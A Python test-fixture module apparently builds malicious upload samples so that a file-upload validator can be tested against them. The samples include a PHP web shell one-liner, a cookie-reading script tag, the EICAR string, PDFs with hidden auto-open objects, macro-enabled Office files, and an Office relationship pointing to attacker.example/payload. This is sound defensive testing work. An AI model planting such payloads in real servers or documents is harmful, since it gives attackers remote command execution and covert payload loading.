"""Files for the upload tests, built in the test run (nothing binary is committed): clean files
of each kind, and the polyglots and active-content files FILE-01 refuses."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib

from gongkai.core.scanning import ScannerUnavailable, ScanResult

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT = b"<html><body><script>alert(document.cookie)</script></body></html>"
PHP = b"<?php system($_GET['c']); ?>"


def pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A small well-formed PDF whose catalog (object 1) is the first of ``objects``."""
    objects = objects or (b"<< /Type /Catalog /Pages 2 0 R >>",)
    body = [b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, obj in enumerate([objects[0], *body, *objects[1:]], start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + obj + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(offsets) + 1, trailer, xref))
    return out.getvalue()


def pdf_with_object_stream(hidden: bytes) -> bytes:
    """A PDF 1.5 object stream (compressed) holding ``hidden`` as object 4."""
    content = b"4 0 " + hidden
    packed = zlib.compress(content)
    stream = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
    return pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", stream + packed + b"\nendstream")


def pdf_with_image_stream(noise: bytes) -> bytes:
    """A PDF with a binary stream (a scanned page's image) that must not be read as objects."""
    stream = b"<< /Type /XObject /Subtype /Image /Length %d >>\nstream\n" % len(noise)
    return pdf(b"<< /Type /Catalog /Pages 2 0 R >>", stream + noise + b"\nendstream")


def png(size: int = 8, *, text: bytes | None = None) -> bytes:
    from PIL import Image, PngImagePlugin

    image = Image.frombytes("RGB", (size, size), random.Random(size).randbytes(size * size * 3))
    info = PngImagePlugin.PngInfo()
    if text is not None:
        info.add_text("Comment", text.decode())
    buffer = io.BytesIO()
    image.save(buffer, "PNG", pnginfo=info)
    return buffer.getvalue()


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def jpeg(size: int = 16) -> bytes:
    from PIL import Image

    image = Image.frombytes("RGB", (size, size), random.Random(size).randbytes(size * size * 3))
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", quality=90)
    return buffer.getvalue()


def jpeg_with_segment(marker: int, body: bytes, size: int = 64, padding: int = 0) -> bytes:
    """A JPEG with an extra segment after SOI, optionally after ``padding`` bytes of APP15
    filler so that the segment lies beyond the first few KB of the file."""
    data = jpeg(size)
    extra = b""
    while padding > 0:
        chunk = min(padding, 60000)
        extra += b"\xff\xef" + struct.pack(">H", chunk + 2) + b"\0" * chunk
        padding -= chunk
    extra += bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body
    return data[:2] + extra + data[2:]


def office(kind: str = "docx") -> bytes:
    buffer = io.BytesIO()
    if kind == "docx":
        from docx import Document

        document = Document()
        document.add_paragraph("茅畲乡宅基地审批结果公示")
        document.save(buffer)
    else:
        from openpyxl import Workbook

        book = Workbook()
        book.active["A1"] = "茅畲乡"
        book.save(buffer)
    return buffer.getvalue()


def rezip(data: bytes, *, add: dict[str, bytes] | None = None, replace: dict[str, bytes] | None = None) -> bytes:
    """The same Office file with members added or replaced."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, (replace or {}).get(info.filename, source.read(info)))
        for name, body in (add or {}).items():
            target.writestr(name, body)
    return out.getvalue()


def macro_content_types(data: bytes, kind: str = "docx") -> bytes:
    types = zipfile.ZipFile(io.BytesIO(data)).read("[Content_Types].xml")
    plain, macro = (
        (b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml")
        if kind == "docx"
        else (b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml")
    )
    assert plain in types
    return rezip(data, replace={"[Content_Types].xml": types.replace(plain, macro)})


def external_relationship(data: bytes, rel_type: str, part: str = "word/_rels/document.xml.rels") -> bytes:
    rels = zipfile.ZipFile(io.BytesIO(data)).read(part)
    extra = (
        f'<Relationship Id="rIdEvil" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        f'{rel_type}" Target="http://attacker.example/payload" TargetMode="External"/>'
    ).encode()
    return rezip(data, replace={part: rels.replace(b"</Relationships>", extra + b"</Relationships>")})


class FakeScanner:
    """MALWARE_SCANNER for the unit tests: ``verdict`` is "clean", "infected" or "down"."""

    verdict = "clean"
    scanned: list[bytes] = []

    def scan(self, data: bytes) -> ScanResult:
        FakeScanner.scanned.append(data)
        if FakeScanner.verdict == "down":
            raise ScannerUnavailable("connection refused")
        if FakeScanner.verdict == "infected" or EICAR in data:
            return ScanResult.infected("Eicar-Test-Signature")
        return ScanResult(clean=True)
